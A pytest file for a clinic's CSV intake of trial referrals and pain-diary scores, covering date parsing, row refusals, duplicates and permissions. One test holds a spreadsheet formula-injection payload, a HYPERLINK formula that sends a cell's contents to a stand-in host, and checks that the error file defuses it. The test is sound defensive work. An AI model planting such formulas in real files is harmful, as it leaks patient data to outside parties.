"""A clinic's spreadsheet as it really comes: what is taken, what is refused in which words, what is never guessed."""

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import date, timedelta

import pytest
from sqlalchemy import text

from workflow.domain.errors import ImpossibleInputError, NotFoundError, NotPermittedError
from workflow.service import intake
from workflow.service.act import Desk
from workflow.service.intake import DIARY, LARGEST, REFERRAL, Dates, Intake, Source, rows
from workflow.store.staff import Person

HEAD = "mrn,family_name,given_name,birth_date,referred_on,reason,pain_origin,phone"
GOOD = "N-1,Tidewater,Marisol,1958-07-19,2026-02-16,Visceral pain,cancer,"
DIARY_HEAD = "mrn,date,time,score"


@pytest.fixture
def source(desk: Desk, someone: Callable[..., Person]) -> Source:
    """A coordinator at north takes rows in; dates are ISO and nothing else."""
    return Source(
        desk=desk, person=someone("coordinator"), site="north", protocol="opioid_trial", dates=Dates.ISO, dry=False
    )


def refer(source: Source, *lines: str, head: str = HEAD) -> Intake:
    return intake.referrals(source, rows("\n".join((head, *lines)).encode(), REFERRAL))


def diary(source: Source, *lines: str) -> Intake:
    return intake.diaries(source, rows("\n".join((DIARY_HEAD, *lines)).encode(), DIARY), item="nrs")


def counted(found: Intake) -> tuple[int, int, int]:
    return found.taken, found.known, len(found.refused)


def why(found: Intake) -> str:
    (refused,) = found.refused
    return refused.because


def kept(source: Source, table: str) -> int:
    with source.desk.store.transaction(["north"]) as connection:
        return int(connection.execute(text(f"SELECT count(*) FROM {table}")).scalar_one())


def scores(source: Source) -> list[tuple[str | None, str | None]]:
    """Every recorded score: its number, and why there is none."""
    with source.desk.store.transaction(["north"]) as connection:
        found = connection.execute(text("SELECT number, absent FROM observation WHERE item = 'nrs' ORDER BY key"))
        return [(None if line.number is None else str(line.number), line.absent) for line in found]


def test_a_good_row_is_enrolled_on_the_day_it_was_referred(source: Source):
    assert counted(refer(source, GOOD)) == (1, 0, 0)
    with source.desk.store.transaction(["north"]) as connection:
        found = connection.execute(text("SELECT stage, enrolled_at FROM episode")).one()
        said = connection.scalars(text("SELECT item FROM observation ORDER BY item")).all()
    assert (found.stage, found.enrolled_at.isoformat()) == ("referred", "2026-02-16T11:00:00+00:00")  # noon in Berlin
    assert said == ["pain_origin", "referral_reason"]


@pytest.mark.parametrize(
    ("dates", "written", "means"),
    [
        (Dates.ISO, "2026-04-03", date(2026, 4, 3)),
        (Dates.DAY_FIRST, "03/04/2026", date(2026, 4, 3)),
        (Dates.MONTH_FIRST, "03/04/2026", date(2026, 3, 4)),
        (Dates.DAY_FIRST, "3.4.2026", date(2026, 4, 3)),
        (Dates.DAY_FIRST, "2026-04-03", date(2026, 4, 3)),
    ],
)
def test_a_date_means_what_the_file_was_said_to_mean(dates: Dates, written: str, means: date):
    assert intake.day(written, dates, place="d") == means


@pytest.mark.parametrize(
    ("dates", "written", "allowed"),
    [
        (Dates.ISO, "03/04/2026", "YYYY-MM-DD"),  # ambiguous: nobody said which comes first
        (Dates.DAY_FIRST, "03/04/26", "DD/MM/YYYY"),
        (Dates.DAY_FIRST, "30/02/2026", "DD/MM/YYYY"),
        (Dates.MONTH_FIRST, "30/01/2026", "MM/DD/YYYY"),
        (Dates.DAY_FIRST, "03/04.2026", "DD/MM/YYYY"),
        (Dates.DAY_FIRST, "03/04/2026/5", "DD/MM/YYYY"),
        (Dates.ISO, "20260403", "YYYY-MM-DD"),
        (Dates.ISO, "2026-W14-5", "YYYY-MM-DD"),
        (Dates.ISO, "1058-04-03", "YYYY-MM-DD"),
        (Dates.ISO, "", "YYYY-MM-DD"),
        (Dates.ISO, "٢٠٢٦-٠٤-٠٣", "YYYY-MM-DD"),
    ],
)
def test_an_ambiguous_or_impossible_date_is_refused_naming_what_is_allowed(dates: Dates, written: str, allowed: str):
    with pytest.raises(ImpossibleInputError) as wrong:
        intake.day(written, dates, place="referred_on")
    assert allowed in wrong.value.allowed
    assert wrong.value.place == "referred_on"


@pytest.mark.parametrize(
    ("row", "because"),
    [
        ("N-2,Doe,Ann,,2026-02-16,pain,cancer,", "birth_date is empty"),
        (",Doe,Ann,1960-01-01,2026-02-16,pain,cancer,", "mrn is empty"),
        ("N-2,Doe,Ann,1960-01-01,2026-02-16,pain,unknown,", "cancer, non_cancer"),
        ("N-2,Doe,Ann,1960-01-01,2126-02-16,pain,cancer,", "future"),
        ("N-2,Doe,Ann,2063-01-01,2026-02-16,pain,cancer,", "before birth"),
        ("N-2,Doe,Ann,1960-01-01,2026-02-16,back, left and right,cancer,", "more cells than headings"),
        (f"N-2,{'x' * 201},Ann,1960-01-01,2026-02-16,pain,cancer,", "too long"),
        (f"N-2,Doe,Ann,1960-01-01,2026-02-16,{'x' * 2001},cancer,", "2000 characters"),
        ("n-1,Tidewater,Marisol,1958-07-19,2026-02-17,Again,cancer,", "the same record number as line 2"),
    ],
)
def test_a_bad_row_is_refused_by_dry_run_and_for_real_alike_and_leaves_nothing(source: Source, row: str, because: str):
    rehearsed = refer(replace(source, dry=True), GOOD, row)
    assert kept(source, "episode") == 0
    taken = refer(source, GOOD, row)
    assert because in why(rehearsed)
    assert why(rehearsed) == why(taken)
    assert counted(rehearsed) == counted(taken) == (1, 0, 1)
    assert kept(source, "episode") == 1


def test_the_same_file_again_is_known_and_changes_nothing(source: Source):
    refer(source, GOOD)
    before = kept(source, "ledger"), kept(source, "episode")
    assert counted(refer(replace(source, dry=True), GOOD)) == (0, 1, 0)
    assert counted(refer(source, GOOD)) == (0, 1, 0)
    assert (kept(source, "ledger"), kept(source, "episode")) == before


def test_a_known_record_number_with_another_birth_date_is_refused(source: Source):
    refer(source, GOOD)
    assert "another birth date" in why(refer(source, GOOD.replace("1958-07-19", "1958-07-20")))


def test_semicolons_a_byte_order_mark_and_other_headings_are_read(source: Source):
    text_ = "\ufeff" + f"{HEAD}\r\n{GOOD}".replace(",", ";").replace("mrn", "Record No")
    found = rows(text_.encode(), REFERRAL, headings={"mrn": "Record No"})
    assert [(row.line, row.cells["mrn"], row.cells["phone"]) for row in found] == [(2, "N-1", "")]
    assert counted(intake.referrals(source, found)) == (1, 0, 0)


@pytest.mark.parametrize(
    ("data", "because"),
    [
        (b"x" * (LARGEST + 1), "too large"),
        (HEAD.encode("utf-16"), "not CSV in UTF-8"),
        (f"{HEAD}\nN-1\0,a,b\n".encode(), "NUL"),
        (b"", "no column mrn"),
        (HEAD.replace("mrn,", "").encode(), "no column mrn"),
        (f"mrn,{HEAD}".encode(), "mrn is there twice"),
    ],
)
def test_a_file_that_cannot_be_trusted_is_refused_whole(data: bytes, because: str):
    with pytest.raises(ImpossibleInputError, match=because):
        rows(data, REFERRAL)


def test_no_cell_of_the_error_file_can_be_read_as_a_formula(source: Source):
    formula = '=HYPERLINK(""http://collect.invalid/?""&A1)'
    found = refer(source, f'@N-2,+Doe,-Ann,,2026-02-16,"{formula}",cancer,')
    text_ = intake.error_file(found, REFERRAL)
    (row,) = csv.DictReader(io.StringIO(text_))
    assert (row["line"], row["because"]) == ("2", "birth_date is empty")
    assert row["reason"].startswith("'=HYPERLINK")
    assert [row["mrn"], row["family_name"], row["given_name"]] == ["'@N-2", "'+Doe", "'-Ann"]


def test_a_corrected_error_file_can_be_taken_as_it_is(source: Source):
    refused = refer(source, GOOD.replace("1958-07-19", "19/07/1958"))
    corrected = intake.error_file(refused, REFERRAL).replace("19/07/1958", "1958-07-19", 1)
    assert counted(intake.referrals(source, rows(corrected.encode(), REFERRAL))) == (1, 0, 0)


def test_a_diary_keeps_scores_as_scores_and_absences_as_absences(source: Source):
    refer(source, GOOD)
    found = diary(source, "N-1,2026-03-01,09:00,7", "N-1,2026-03-01,20:00,asleep", "N-1,2026-03-02,09:00,0")
    assert counted(found) == (3, 0, 0)
    assert scores(source) == [("7", None), (None, "asleep"), ("0", None)]


@pytest.mark.parametrize(
    ("row", "because"),
    [
        ("N-1,2026-03-01,09:00,", "'' is no score"),
        ("N-1,2026-03-01,09:00,bad", "asleep"),
        ('N-1,2026-03-01,09:00,"7,5"', "no score"),
        ("N-1,2026-03-01,09:00,nan", "no score"),
        ("N-1,2026-03-01,09:00,-1", "no score"),
        ("N-1,2026-03-01,09:00,11", "0 to 10"),
        ("N-1,2026-03-01,09:00,7.5", "0 decimals"),
        ("N-1,2026-03-01,8 pm,7", "HH:MM"),
        ("N-1,2026-03-01,09:00+02:00,7", "HH:MM"),
        ("N-1,2026-03-29,02:30,7", "a time that day had"),  # the clocks in Berlin went from 02:00 to 03:00
        ("N-9,2026-03-01,09:00,7", "no open episode for record number 'N-9'"),
        ("N-1,2126-03-01,09:00,7", "future"),
    ],
)
def test_a_diary_row_that_is_no_score_is_refused_and_never_zero(source: Source, row: str, because: str):
    refer(source, GOOD)
    rehearsed, taken = diary(replace(source, dry=True), row), diary(source, row)
    assert because in why(taken)
    assert why(rehearsed) == why(taken)
    assert scores(source) == []


def test_two_scores_for_one_moment_are_a_question_and_one_score_twice_is_not(source: Source):
    refer(source, GOOD)
    line = "N-1,2026-03-01,09:00,"
    found = diary(source, f"{line}7", f"{line}4", f"{line}7")
    assert counted(found) == (1, 1, 1)
    assert "another score at the same time as line 2" in why(found)
    assert scores(source) == [("7", None)]


def test_todays_referral_counts_even_before_noon(source: Source) -> None:
    with source.desk.store.transaction() as connection:
        query = "SELECT (clock_timestamp() AT TIME ZONE 'Europe/Berlin')::date"
        today: date = connection.execute(text(query)).scalar_one()
    row = GOOD.replace("2026-02-16", today.isoformat())
    assert counted(refer(source, row)) == (1, 0, 0)
    tomorrow = GOOD.replace("N-1", "N-2").replace("2026-02-16", (today + timedelta(days=1)).isoformat())
    assert "future" in why(refer(source, tomorrow))


def test_who_may_not_take_rows_in_is_told_once_and_not_row_by_row(source: Source, someone: Callable[..., Person]):
    with pytest.raises(NotPermittedError):
        refer(replace(source, person=someone("nurse")), GOOD)
    with pytest.raises(NotFoundError, match="no such site among yours"):
        refer(replace(source, site="south"), GOOD)
    with pytest.raises(NotFoundError, match="no such protocol"):
        refer(replace(source, protocol="other"), GOOD)


def test_a_diary_that_another_person_imports_again_doubles_nothing(source: Source, someone: Callable[..., Person]):
    refer(source, GOOD)
    lines = ("N-1,2026-03-01,09:00,7", "N-1,2026-03-01,21:00,asleep")
    assert counted(diary(source, *lines)) == (2, 0, 0)
    assert counted(diary(replace(source, person=someone("nurse")), *lines)) == (0, 2, 0)
    assert len(scores(source)) == 2
